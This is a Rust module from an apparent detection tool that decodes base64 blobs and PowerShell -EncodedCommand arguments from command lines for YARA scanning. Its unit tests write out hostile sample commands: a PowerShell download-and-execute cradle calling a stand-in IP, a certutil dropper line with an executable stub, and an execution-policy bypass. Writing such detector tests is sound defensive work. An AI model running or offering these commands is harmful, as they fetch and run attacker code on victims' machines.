//! Content hidden in command lines, decoded so YARA sees it: PowerShell
//! `-EncodedCommand` arguments (base64 of UTF-16LE text) and other base64 blobs.
//!
//! A blob is a run of at least [`MIN_BLOB`] base64 characters (with optional `=`
//! padding) that decodes cleanly. An `-e`, `-enc`, `-encodedcommand` (any prefix of
//! it, any case, `-` or `/`) argument is decoded as UTF-16LE into UTF-8 text; other
//! blobs are scanned as the bytes they decode to. At most [`MAX_BLOBS`] per value.

use base64::Engine;

/// Shortest run of base64 characters taken for a blob.
pub(crate) const MIN_BLOB: usize = 24;
/// Most blobs decoded from one value.
pub(crate) const MAX_BLOBS: usize = 8;

/// How a blob was decoded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Decoding {
    /// A PowerShell encoded command: base64 of UTF-16LE.
    EncodedCommand,
    /// Plain base64.
    Base64,
}

impl Decoding {
    /// Label used in alerts (`field(label)`).
    pub(crate) fn label(self) -> &'static str {
        match self {
            Self::EncodedCommand => "encodedcommand",
            Self::Base64 => "base64",
        }
    }
}

fn is_b64(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'+' || c == b'/'
}

/// Whether `word` is a PowerShell `-EncodedCommand` switch: any prefix of it from `-e`,
/// or its alias `-ec`, any case, with `-` or `/`.
fn is_encoded_switch(word: &str) -> bool {
    let Some(name) = word.strip_prefix('-').or_else(|| word.strip_prefix('/')) else {
        return false;
    };
    let name = name.to_ascii_lowercase();
    name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(&name))
}

/// The decoded blobs of `text`.
pub(crate) fn blobs(text: &str) -> Vec<(Decoding, Vec<u8>)> {
    let mut out = Vec::new();
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() && out.len() < MAX_BLOBS {
        if !is_b64(bytes[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < bytes.len() && is_b64(bytes[i]) {
            i += 1;
        }
        let mut end = i;
        while end < bytes.len() && bytes[end] == b'=' && end - i < 2 {
            end += 1;
        }
        let run = &text[start..end];
        i = end;
        if run.len() < MIN_BLOB {
            continue;
        }
        let Ok(decoded) = base64::engine::general_purpose::STANDARD
            .decode(run)
            .or_else(|_| {
                base64::engine::general_purpose::STANDARD_NO_PAD.decode(run.trim_end_matches('='))
            })
        else {
            continue;
        };
        let before = text[..start].trim_end();
        let switch = before.rsplit(char::is_whitespace).next().unwrap_or("");
        if is_encoded_switch(switch) && decoded.len() % 2 == 0 {
            let units: Vec<u16> = decoded
                .chunks_exact(2)
                .map(|p| u16::from_le_bytes([p[0], p[1]]))
                .collect();
            out.push((
                Decoding::EncodedCommand,
                String::from_utf16_lossy(&units).into_bytes(),
            ));
        } else {
            out.push((Decoding::Base64, decoded));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn b64(bytes: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn encoded_commands_decode_from_utf16() {
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
        let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        for switch in ["-EncodedCommand", "-enc", "/e", "-ENCODEDCOMMAND", "-ec"] {
            let line = format!("powershell.exe -NoP {switch} {}", b64(&utf16));
            let found = blobs(&line);
            assert_eq!(found.len(), 1, "{switch}");
            assert_eq!(found[0].0, Decoding::EncodedCommand, "{switch}");
            assert_eq!(String::from_utf8_lossy(&found[0].1), script);
        }
    }

    #[test]
    fn plain_blobs_decode_and_short_or_broken_runs_do_not() {
        let payload = b"MZ\x90\x00 this program cannot be run in DOS mode";
        let line = format!("cmd /c echo {} > x.bin && certutil -decode", b64(payload));
        let found = blobs(&line);
        assert_eq!(found, vec![(Decoding::Base64, payload.to_vec())]);
        assert!(blobs("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe").is_empty());
        assert!(blobs("short dGVzdA== only").is_empty());
        let args = format!("powershell -ExecutionPolicy Bypass {}", b64(payload));
        assert_eq!(
            blobs(&args)[0].0,
            Decoding::Base64,
            "-ExecutionPolicy is not -EncodedCommand"
        );
        assert!(
            blobs(&"A".repeat(25)).is_empty(),
            "not a multiple of four, no padding fits"
        );
        let many: String = (0..20).map(|_| format!("{} ", b64(payload))).collect();
        assert_eq!(blobs(&many).len(), MAX_BLOBS);
    }
}
